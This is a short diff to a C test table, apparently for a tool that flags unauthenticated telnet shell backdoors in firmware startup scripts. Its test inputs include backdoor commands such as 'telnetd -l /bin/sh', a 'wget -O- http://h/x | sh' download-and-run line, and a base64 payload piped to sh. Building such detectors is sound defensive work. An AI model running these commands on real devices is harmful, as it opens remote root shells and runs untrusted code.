@@ -61,6 +61,11 @@ static const struct {
     {"cut", {INIT, RC("cat > /tmp/x.sh <<EOF\n#!/bin/sh\ntelnetd -l /bin/sh\nEOF\nsh /tmp/x.sh\n")}},
     {"cut", {INIT, RC("telnetd -l $SHELL_OF_UNIT\n")}},
     {"cut", {INIT, RC("telnetd -l /bin/login.sh\n")}},
+    {"cut", {INIT, RC("wget -O- http://h/x | sh\n")}},
+    {"cut", {INIT, RC("base64 -d <<EOF | sh\ndGVs\nEOF\n")}},
+    {"cut", {INIT, RC("$SERVER -l /bin/sh\n")}},
+    {"cut", {INIT, RC("$(cat /etc/name) -l /bin/sh\n")}},
+    {"absent", {INIT, RC("ln -s /bin/busybox /bin/sh\nchsh -s /bin/sh user\n$LOGGER started\nsh /opt/x\n"), {"/opt/x", "true\n"}}},
     /* on a condition: started or not, nobody knows; a file that is in the image is none */
     {"cut", {INIT, RC("[ -f /data/debug ] && telnetd -l /bin/sh\n")}},
     {"cut", {INIT, RC("if [ \"$(nvram get dbg)\" = 1 ]; then\n  telnetd -l /bin/sh\nfi\n")}},
